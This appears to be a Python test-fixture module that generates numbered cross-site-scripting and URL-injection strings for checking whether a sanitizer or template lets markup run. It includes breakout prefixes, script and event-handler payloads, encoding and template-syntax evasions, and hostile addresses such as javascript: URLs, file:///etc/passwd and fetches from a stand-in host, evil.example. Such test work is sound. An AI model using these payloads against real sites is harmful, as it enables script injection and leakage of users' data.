# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts and addresses that would run, or fetch something from elsewhere, if a page took them for markup.

Each has a number N. What runs sets `top.hits` or asks for /hit/N; what fetches asks for N at a host that is not there."""

# What an attack may have to get out of first: an attribute, an element whose text is no markup, data in a script.
WAYS_OUT = ("", "\">", "'>", " x='", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "\\\"}</script>",
            "</p></div></article></main>")
MARKUP = (
    "<script>top.hits=N</script>",
    "<ScRiPt/x>fetch(`/hit/N`)</sCrIpT>",
    "<script src=//evil.example/N></script>",
    "<img src=x onerror=top.hits=N>",
    "<img/src=//evil.example/N>",
    "<img srcset=//evil.example/N>",
    "<picture><source srcset=//evil.example/N><img></picture>",
    "<svg onload=top.hits=N>",
    "<svg><script>top.hits=N</script></svg>",
    "<svg><image href=//evil.example/N /></svg>",
    "<svg><use href=//evil.example/N#a /></svg>",
    "<math><mtext><style><img src=x onerror=top.hits=N></style></mtext></math>",
    "<iframe src=//evil.example/N></iframe>",
    "<iframe srcdoc='<script>parent.hits=N</script>'></iframe>",
    "<object data=//evil.example/N></object>",
    "<embed src=//evil.example/N>",
    "<video src=//evil.example/N autoplay onerror=top.hits=N></video>",
    "<audio src=//evil.example/N onerror=top.hits=N></audio>",
    "<video poster=//evil.example/N></video>",
    "<link rel=stylesheet href=//evil.example/N>",
    "<link rel=prefetch href=//evil.example/N>",
    "<style>@import '//evil.example/N';</style>",
    "<style>*{background:url(//evil.example/N)}</style>",
    "<p style=background:url(//evil.example/N)>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<base href=//evil.example/N/>",
    "<details open ontoggle=top.hits=N>x</details>",
    "<input autofocus onfocus=top.hits=N>",
    "<p tabindex=0 autofocus onfocus=top.hits=N>x</p>",
    "<body background=//evil.example/N onload=top.hits=N>",
    "<form action=//evil.example/N><input type=image src=//evil.example/N></form>",
)
# Marks of other layers: the templates' own, references, escapes, what looks like markup to a careless fold.
OTHERS = (
    "{{{body}}}", "{{#body}}<script>top.hits=N</script>{{/body}}", "{{=<% %>=}}<script>top.hits=N</script>",
    "{{{data}}}<script>top.hits=N</script>", "{{>page}}", "{{<page}}{{$main}}<script>top.hits=N</script>{{/main}}{{/page}}",
    "&lt;script&gt;top.hits=N&lt;/script&gt;", "&#60;script&#62;top.hits=N&#60;/script&#62;",
    "&#x3c;img src=x onerror=top.hits=N&#x3e;", "&quot;&gt;<svg/onload=top.hits=N>", "&amp;lt;script&amp;gt;",
    "\\u003cscript\\u003etop.hits=N\\u003c/script\\u003e", "\\x3cscript>top.hits=N</script>", "%3Cscript%3Etop.hits=N%3C/script%3E",
    "＜script＞top.hits=N＜/script＞", "‹script›top.hits=N‹/script›", "<​script>top.hits=N</script>",
    "<!--<script>top.hits=N</script>-->", "<!--><img src=x onerror=top.hits=N>-->", "<![CDATA[<script>top.hits=N</script>]]>",
    "<?xml-stylesheet href='//evil.example/N'?>", "<!DOCTYPE x SYSTEM '//evil.example/N'>", "<%=top.hits=N%>", "${top.hits=N}",
    "`;top.hits=N;//", "';top.hits=N;//", "\";top.hits=N;//", "\\\";top.hits=N;//", "</script><!--", "<script><!--",
)
ADDRESSES = (
    "javascript:top.hits=N", "JavaScript:top.hits=N", " javascript:top.hits=N", "javascript&colon;top.hits=N",
    "java&#9;script:top.hits=N", "javascript://x/%0atop.hits=N", "data:text/html,<script>top.hits=N</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0cz0xPC9zY3JpcHQ+", "vbscript:top.hits=N", "file:///etc/passwd", "blob:N",
    "//evil.example/N", "\\\\evil.example\\N", "https:\\\\evil.example\\N", "http:javascript:top.hits=N", "httpx://evil.example/N",
    "https://a.example/\" onmouseover=\"top.hits=N", "https://a.example/' onclick='top.hits=N",
    "https://a.example/\"><script>top.hits=N</script>", "https://a.example/?q=</script><script>top.hits=N</script>",
    "/../../N", "/media/../../N", "#\"><img src=x onerror=top.hits=N>", "view-source:https://a.example/", "ftp://evil.example/N",
    "about:blank", "ws://evil.example/N", "mailto:a@a.example?body=<script>top.hits=N</script>", "https://", "tel:1",
)


def number(attacks, first):
    return [attack.replace("N", str(first + i)) for i, attack in enumerate(attacks)]


def make_texts():
    """Every piece of markup behind every way out, and the others."""
    return number([way + attack for way in WAYS_OUT for attack in MARKUP] + list(OTHERS), 1000)


def make_addresses():
    return number(ADDRESSES, 9000)
